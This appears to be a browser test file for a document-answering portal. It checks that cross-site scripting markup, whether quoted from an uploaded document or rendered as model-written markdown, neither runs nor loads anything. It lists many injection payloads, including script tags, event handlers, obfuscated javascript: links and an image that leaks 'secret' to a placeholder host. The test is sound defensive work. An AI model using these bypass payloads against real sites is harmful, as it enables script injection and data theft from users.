"""Hostile content in a real browser: a document full of script, event handlers,
``javascript:`` links and a data-leaking image is quoted by an answer; nothing of it may run
or load. Then the same payload, as if a model wrote it, goes through the very markdown
module the portal renders answers with.
"""

from __future__ import annotations

import json
import time
import urllib.request
import uuid
from typing import Any

import pytest

from tests.web.browser.conftest import PageWatch, Shots, ask, sign_in, wait_answer_state
from tests.web.live import LiveServer, create_api_token

pytestmark = pytest.mark.browser

MARKER = "zanzibar quokka escalation code"
PAYLOAD = (
    '<script>window.__xss=1</script> <img src=x onerror="window.__xss=2"> '
    "[click](javascript:window.__xss=3) ![](http://x.invalid/?q=secret)"
)
# One sentence (no ". " inside), so the extractive answer quotes the payload whole.
DOCUMENT = f"Escalations\n\nThe {MARKER} is 7781 {PAYLOAD} and it rotates weekly.\n"
QUESTION = f"What is the {MARKER}?"

# The "model output" half: more ways in than the document carries.
MODEL_OUTPUT = f"""The code is 7781 [1].

{PAYLOAD}

<script>window.__xss=1</script>

<img src=x onerror="window.__xss=2">

[click](javascript:window.__xss=3)

![](http://x.invalid/?q=secret)

<a href="JaVaScRiPt:window.__xss=4">case</a> <a href=" javascript:window.__xss=5">space</a>

[entity](&#106;avascript:window.__xss=6) [spaced]( javascript:window.__xss=7 )

<details open ontoggle="window.__xss=8">details</details>

<svg onload="window.__xss=9"><circle r="1"/></svg>

<iframe srcdoc="<script>parent.__xss=10</script>"></iframe>

<img src="//x.invalid/a.png"> <img src="http://x.invalid/b.png">

<a href="http://x.invalid/">ok link</a>

<form action="javascript:window.__xss=11"><button>go</button></form>

<p style="background:url(http://x.invalid/c.png)">styled</p>

```html
<script>window.__xss=12</script>
```
"""

CHECK_DOM = """(rootSelector) => {
  const root = document.querySelector(rootSelector);
  const withHandlers = [];
  const badLinks = [];
  for (const el of root.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (attr.name.toLowerCase().startsWith('on')) withHandlers.push(el.tagName + ' ' + attr.name);
    }
    for (const name of ['href', 'src', 'action', 'formaction', 'xlink:href']) {
      const value = el.getAttribute(name);
      if (value !== null && /^\\s*javascript:/i.test(value)) {
        badLinks.push(el.tagName + ' ' + value);
      }
    }
  }
  return {
    xss: typeof window.__xss === 'undefined' ? null : window.__xss,
    withHandlers,
    badLinks,
    scripts: root.querySelectorAll('script, iframe, object, embed, svg, form').length,
    externalImages: [...root.querySelectorAll('img')].map((i) => i.src).filter((src) => {
      try {
        return new URL(src).origin !== location.origin;
      } catch {
        return true;
      }
    }),
  };
}"""


def _upload(server: LiveServer, token: str, collection_id: int, name: str, data: bytes) -> str:
    boundary = uuid.uuid4().hex
    body = (
        (
            f"--{boundary}\r\n"
            f'Content-Disposition: form-data; name="file"; filename="{name}"\r\n'
            "Content-Type: text/plain\r\n\r\n"
        ).encode()
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )
    req = urllib.request.Request(
        f"{server.url}/api/v1/collections/{collection_id}/documents",
        data=body,
        method="POST",
        headers={
            "Authorization": f"Bearer {token}",
            "Content-Type": f"multipart/form-data; boundary={boundary}",
            "Accept": "application/json",
        },
    )
    with urllib.request.urlopen(req, timeout=30) as resp:
        assert resp.status == 202
        uploads = json.loads(resp.read())["uploads"]
    assert len(uploads) == 1 and uploads[0]["document_id"], uploads
    doc_id: str = uploads[0]["document_id"]
    return doc_id


def _wait_indexed(server: LiveServer, token: str, doc_id: str, timeout: float = 120) -> None:
    deadline = time.monotonic() + timeout
    status = "?"
    while time.monotonic() < deadline:
        req = urllib.request.Request(
            f"{server.url}/api/v1/documents/{doc_id}",
            headers={"Authorization": f"Bearer {token}", "Accept": "application/json"},
        )
        with urllib.request.urlopen(req, timeout=10) as resp:
            doc = json.loads(resp.read())
        doc = doc.get("document", doc)
        status = doc["status"]
        if status == "indexed":
            return
        assert status != "failed", doc
        time.sleep(0.3)
    raise AssertionError(f"the document is still {status} after {timeout}s")


def _ask_json(server: LiveServer, token: str, question: str) -> dict[str, Any]:
    req = urllib.request.Request(
        f"{server.url}/api/v1/ask",
        data=json.dumps({"question": question, "stream": False}).encode(),
        method="POST",
        headers={
            "Authorization": f"Bearer {token}",
            "Content-Type": "application/json",
            "Accept": "application/json",
        },
    )
    with urllib.request.urlopen(req, timeout=60) as resp:
        answer: dict[str, Any] = json.loads(resp.read())
    return answer


def _assert_harmless(page: Any, watch: PageWatch, root: str) -> dict[str, Any]:
    page.wait_for_timeout(1000)  # time for an onerror / onload / ontoggle to fire
    found: dict[str, Any] = page.evaluate(CHECK_DOM, root)
    assert found["xss"] is None, f"injected script ran: window.__xss = {found['xss']}"
    assert found["withHandlers"] == [], found
    assert found["badLinks"] == [], found
    assert found["scripts"] == 0, found
    assert found["externalImages"] == [], found
    assert not watch.dialogs, watch.dialogs
    assert any("/api/v1/ask" in url for url in watch.requests), "requests are not watched"
    leaks = [url for url in watch.requests if "x.invalid" in url]
    assert leaks == [], f"the page asked for {leaks}"
    return found


def test_a_quoted_hostile_document_and_hostile_model_markdown_stay_inert(
    page: Any, page_watch: PageWatch, extractive_server: LiveServer, shots: Shots
) -> None:
    server = extractive_server
    handbook = server.collection_ids()["handbook"]
    admin = create_api_token(server.data_dir, "admin", "xss-upload")
    alice = create_api_token(server.data_dir, "alice", "xss-ask")
    doc_id = _upload(server, admin, handbook, "escalations.txt", DOCUMENT.encode())
    _wait_indexed(server, admin, doc_id)
    # The payload really reaches the page: the answer quotes it verbatim.
    raw = _ask_json(server, alice, QUESTION)
    assert "<script>window.__xss=1</script>" in raw["answer"], raw["answer"][:500]
    assert "http://x.invalid/?q=secret" in raw["answer"]

    sign_in(page, server, "alice")
    ask(page, QUESTION)
    assert wait_answer_state(page, ("done", "error")) == "done"
    msg = page.locator("#messages .message.assistant").last
    assert MARKER in (msg.locator(".answer").text_content() or "")
    # Source snippets are text: the markup shows as characters, it is not parsed.
    snippets = " ".join(msg.locator(".sources li.source").all_text_contents())
    assert "<script>window.__xss=1</script>" in snippets
    _assert_harmless(page, page_watch, "#messages")
    shots(page, "document-quoted")

    # The same payload and more, rendered by the portal's own markdown module as if a model
    # had written it (the module the streamed answers go through).
    rendered = page.evaluate(
        """async (markdown) => {
            const { renderMarkdown } = await import('/static/js/portal/markdown.js');
            const box = document.createElement('div');
            box.id = 'xss-probe';
            box.className = 'answer';
            document.querySelector('#messages').append(box);
            renderMarkdown(box, markdown);
            box.scrollIntoView();
            return box.innerHTML;
        }""",
        MODEL_OUTPUT,
    )
    assert "7781" in rendered and "ok link" in rendered
    _assert_harmless(page, page_watch, "#xss-probe")
    _assert_harmless(page, page_watch, "#messages")
    hrefs = page.eval_on_selector_all(
        "#xss-probe a[href]", "els => els.map(e => e.getAttribute('href'))"
    )
    assert hrefs == ["http://x.invalid/"], hrefs  # a plain link may stay; it loads nothing
    assert page.locator("#xss-probe pre code").count() == 1  # the code block shows as code
    assert "window.__xss=12" in (page.locator("#xss-probe pre code").text_content() or "")
    shots(page, "model-markdown")
